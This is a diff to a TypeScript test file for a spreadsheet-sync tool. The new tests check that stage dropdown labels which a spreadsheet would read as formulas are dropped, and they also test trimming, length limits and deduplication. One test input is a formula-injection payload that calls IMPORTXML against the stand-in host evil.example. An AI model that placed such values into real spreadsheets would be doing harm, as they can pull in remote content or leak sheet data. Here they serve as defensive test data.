@@ -4,7 +4,7 @@ import type { Locale } from '../../../shared/i18n/locale.ts';
 import type { ResolvedTab } from '../../../shared/mapping/tab-mapping.ts';
 import { DEFAULT_SETTINGS, type SyncSettings } from '../../../shared/settings/sync-settings.ts';
 import { SERVICE_COLUMNS_BY_KIND, type ServiceColumnKey } from '../../../shared/write-plan/service-columns.ts';
-import { tabSetup } from '../../../shared/write-plan/tab-setup.ts';
+import { stageDropdownValues, tabSetup } from '../../../shared/write-plan/tab-setup.ts';
 import type { SetupStep } from '../../../shared/write-plan/write-plan.ts';
 
 // 案件: A 顧客名, B 案件名, C ステージ, D 担当者; the service columns were appended at E–J.
@@ -116,6 +116,20 @@ describe('tabSetup', () => {
       expect(ofKind(steps, 'dropdown')[0]?.values).toEqual(DEFAULT_SETTINGS.stages.map((s) => s.label));
     });
 
+    it('keeps only plain-text labels in use when some would be read as formulas', () => {
+      const settings: SyncSettings = { ...DEFAULT_SETTINGS, stages: DEFAULT_SETTINGS.stages.slice(0, 1), stageLabels: {} };
+      const inUse = ['=IMPORTXML("https://evil.example","//a")', ' 提案 ', '+1', '-見積', '@me', '', '   ', '＝HYPERLINK("x")', '見積-済'];
+      const steps = tabSetup(dealsTab(), settings, 'ja', DEALS_COLUMNS, ALL_CREATED, inUse);
+      expect(ofKind(steps, 'dropdown')[0]?.values).toEqual(['提案', '見積-済', 'リード']);
+    });
+
+    it('adds no dropdown when no label is left to list', () => {
+      const settings: SyncSettings = { ...DEFAULT_SETTINGS, stages: [], stageLabels: {} };
+      const steps = tabSetup(dealsTab(), settings, 'ja', DEALS_COLUMNS, ALL_CREATED, ['=1']);
+      expect(ofKind(steps, 'dropdown')).toEqual([]);
+      expect(ofKind(steps, 'filterView')).toHaveLength(4);
+    });
+
     it('adds no dropdown when the tab has no stage column', () => {
       const steps = tabSetup(dealsTab({ account: 1, title: 2 }), DEFAULT_SETTINGS, 'ja', DEALS_COLUMNS, ALL_CREATED, ['提案']);
       expect(ofKind(steps, 'dropdown')).toEqual([]);
@@ -170,5 +184,43 @@ describe('tabSetup', () => {
         { kind: 'protectColumns', columns: [5], description: expect.stringContaining('sheets-sfa') },
       ]);
     });
+  });
+});
+
+describe('stageDropdownValues', () => {
+  it.each<['keeps' | 'drops', string, string]>([
+    ['keeps', '見積提出', 'plain text'],
+    ['keeps', 'Phase-2', 'text with a dash inside'],
+    ['drops', '=SUM(A1)', 'an equals sign'],
+    ['drops', '+81 3', 'a plus sign'],
+    ['drops', '-1', 'a minus sign'],
+    ['drops', '@stage', 'an at sign'],
+    ['drops', '  =A1', 'spaces then an equals sign'],
+    ['drops', '＝A1', 'a full-width equals sign'],
+    ['drops', ' \u3000 ', 'nothing but spaces'],
+  ])('%s the label %j when it is %s', (verdict, label) => {
+    expect(stageDropdownValues([label], [])).toEqual(verdict === 'keeps' ? [label.trim()] : []);
+  });
+
+  it('leaves a label out rather than cutting it when it is longer than 255 characters', () => {
+    const long = 'あ'.repeat(256);
+    const longest = '😀'.repeat(255);
+    expect(stageDropdownValues([long, longest, '提案'], [])).toEqual([longest, '提案']);
+  });
+
+  it('lists 500 values at most, every configured label among them, when too many labels are in use', () => {
+    const inUse = Array.from({ length: 2000 }, (_, i) => `ラベル${i}`);
+    const configured = ['リード', '提案', 'ラベル1999'];
+    const values = stageDropdownValues(inUse, configured);
+    expect(values).toHaveLength(500);
+    expect(values.slice(0, 3)).toEqual(['ラベル0', 'ラベル1', 'ラベル2']);
+    expect(values).toEqual(expect.arrayContaining(configured));
+    // The configured label in use keeps its place among the labels in use.
+    expect(values.indexOf('ラベル1999')).toBeLessThan(values.indexOf('リード'));
+    expect(new Set(values).size).toBe(500);
+  });
+
+  it('lists labels in use first, then configured ones, each once when they trim to the same', () => {
+    expect(stageDropdownValues(['提案 ', '受注', '提案'], ['リード', ' 受注'])).toEqual(['提案', '受注', 'リード']);
   });
 });
